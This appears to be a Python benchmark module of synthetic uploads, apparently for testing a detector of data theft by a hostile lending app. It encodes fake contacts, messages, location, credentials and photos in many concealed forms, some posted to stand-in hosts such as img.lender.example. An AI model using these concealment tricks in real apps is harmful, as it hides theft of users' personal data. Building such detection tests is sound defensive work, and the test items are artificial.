"""Uploads of a hostile lending app by hand: other kinds of data, and ways of the transport."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import zlib
from urllib.parse import quote

import cbor2

from inspector.model.key_material import KeyMaterial
from tests.benchmark.traffic.hostile_case import Roll, upload
from tests.benchmark.traffic.hostile_parts import (
    b64,
    book,
    dumps,
    inbox,
    log,
    message,
    number,
    repeated,
)  # fmt: skip
from tests.benchmark.traffic.images import jpeg
from tests.benchmark.traffic.records import NOW, PACKAGES, mac, millis
from tests.traffic.exchanges import post

OWN = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm9876543210-_"
XOR_KEY = b"Xk9#pL"
PHRASE = b"open sesame for tests"


@upload("a form with numbered brackets", "contacts")
def _brackets(roll: Roll) -> object:
    return "&".join(f"c[{i}][n]={quote(n)}&c[{i}][p]={quote(p)}"
                    for i, (n, p) in enumerate(book(roll, "ta", 20)))  # fmt: skip


@upload("keys with numbers between dots", "contacts")
def _dotted(roll: Roll) -> object:
    rows = enumerate(book(roll, "id", 20))
    return {key: value for i, (n, p) in rows for key, value in
            ((f"book.{i}.who", n), (f"book.{i}.tel", p))}  # fmt: skip


@upload("an array of texts that are JSON", "sms", count=18)
def _texts(roll: Roll) -> object:
    return {"arr": [dumps({"a": s, "b": t, "c": m}) for s, t, m in inbox(roll, "ta", 18)]}


@upload("numbers as keys", "contacts")
def _map(roll: Roll) -> object:
    return {"m": {p: {"t": n, "c": roll.randrange(9)} for n, p in book(roll, "my", 20)}}


@upload("name and number in one text", "contacts")
def _joined(roll: Roll) -> object:
    return {"l": [f"{n} <{p}>" for n, p in book(roll, "id", 22)]}


@upload("base64 in a header", "contacts")
def _header(roll: Roll) -> object:
    rows = dumps([[n, p] for n, p in book(roll, "vi", 12)])
    return post({"ok": 1}, headers=[("X-Trace-Meta", b64(rows))])


@upload("gzip in URL-safe base64 in the query", "contacts")
def _query(roll: Roll) -> object:
    rows = gzip.compress(dumps([[n, p] for n, p in book(roll, "hi", 16)]).encode(), mtime=0)
    packed = base64.urlsafe_b64encode(rows).decode().rstrip("=")
    return post(b"", url=f"https://img.lender.example/p.gif?e={packed}&r=1")


@upload("CBOR in raw deflate in base64", "contacts")
def _deflate(roll: Roll) -> object:
    machine = zlib.compressobj(wbits=-15)
    raw = cbor2.dumps([{"n": n, "p": p} for n, p in book(roll, "ta", 20)])
    return {"z": b64(machine.compress(raw) + machine.flush())}


@upload("JSON in UTF-16", "contacts")
def _wide(roll: Roll) -> object:
    return dumps([{"n": n, "p": p} for n, p in book(roll, "am", 15)]).encode("utf-16")


@upload("whole numbers of degrees along the way", "location")
def _track(roll: Roll) -> object:
    return {"t": [{"latitudeE7": -69147650 + i * 900, "longitudeE7": 1075840570 - i * 700,
                   "timestampMs": str(millis(NOW) + i * 60_000)} for i in range(12)]}  # fmt: skip


@upload("an identity card in base64 in SOAP", "documents", "photos")
def _soap(roll: Roll) -> object:
    image = b64(jpeg(640, 480, seed=3))
    return f"<e:Envelope xmlns:e='urn:e'><e:Body><k><i>{image}</i></k></e:Body></e:Envelope>"


@upload("JSON in CDATA in SOAP, Amharic", "contacts")
def _cdata(roll: Roll) -> object:
    rows = dumps([{"n": n, "p": p} for n, p in book(roll, "am", 15)])
    return f"<e:Envelope xmlns:e='urn:e'><e:Body><![CDATA[{rows}]]></e:Body></e:Envelope>"


@upload("apps in a gRPC frame", "installed_apps")
def _grpc(roll: Roll) -> object:
    rows = [message(p, p.rpartition(".")[2], i) for i, p in enumerate(PACKAGES)]
    body = repeated(rows, 5)
    return post(b"\0" + len(body).to_bytes(4) + body, kind="application/grpc")


@upload("calls with a Spanish header and tabs", "call_log", "contacts")
def _spanish(roll: Roll) -> object:
    rows = ["\t".join(map(str, row)) for row in log(roll, "vi", 30)]
    return {"registro": "\n".join(("número\tfecha\tduración\ttipo", *rows))}


@upload("access points in one text", "network_ids.scan", "network_ids")
def _wifi(roll: Roll) -> object:
    return {"w": ";".join(f"Rumah{i},{mac(roll)},{-40 - i * 5}" for i in range(6))}


@upload("three towers in one text", "location.cell")
def _towers(roll: Roll) -> object:
    return {"c": ";".join(f"510,10,4021,{roll.randrange(10**6, 10**8)},{-70 - i}"
                          for i in range(3))}  # fmt: skip


@upload("accounts as type and address in one text", "accounts", "identity")
def _accounts(roll: Roll) -> object:
    kinds = ("com.google", "com.whatsapp", "com.facebook.auth.login", "org.telegram.messenger")
    return {"acc": [f"{kind}:nobody{i}@mail.example" for i, kind in enumerate(kinds)]}


@upload(
    "AES under PBKDF2 with the salt in front", "contacts",
    material=(KeyMaterial("Vault.open", PHRASE, "password"),),
)  # fmt: skip
def _pbkdf2(roll: Roll) -> object:
    from tests.traffic.test_opening import cbc

    salt, iv = roll.randbytes(16), roll.randbytes(16)
    rows = dumps([{"n": n, "p": p} for n, p in book(roll, "id", 25)]).encode()
    key = hashlib.pbkdf2_hmac("sha256", PHRASE, salt, 10_000, 32)
    return {"q": b64(salt + iv + cbc(rows, key, iv))}


@upload("the login of a carrier in JSON in a form", "credentials", "carrier_records", "identity")
def _login(roll: Roll) -> object:
    inner = dumps({"account": number(roll, "id", "trunk"), "pwd": "593028", "target": "telkomsel"})
    return post(f"k=1&payload={quote(inner)}", url="https://crawl.lender.example/operator/login")


@upload("a property of an analytics event", "contacts")
def _event(roll: Roll) -> object:
    rows = gzip.compress(dumps([{"n": n, "p": p} for n, p in book(roll, "si", 25)]).encode())
    return {"events": [{"e": "app_open", "ts": millis(NOW), "props": {"s": b64(rows)}},
                       {"e": "scroll", "ts": millis(NOW) + 5, "props": {"s": "x"}}]}  # fmt: skip


@upload("the gallery as JSON lines in zlib", "photos", "location")
def _gallery(roll: Roll) -> object:
    folder = "/storage/emulated/0/DCIM/Camera"
    rows = [json.dumps({"f": f"{folder}/IMG_20260{i % 6 + 1}01_1.jpg",
                        "t": millis(NOW) - i * 10**7}) for i in range(20)]  # fmt: skip
    return zlib.compress("\n".join(rows).encode())
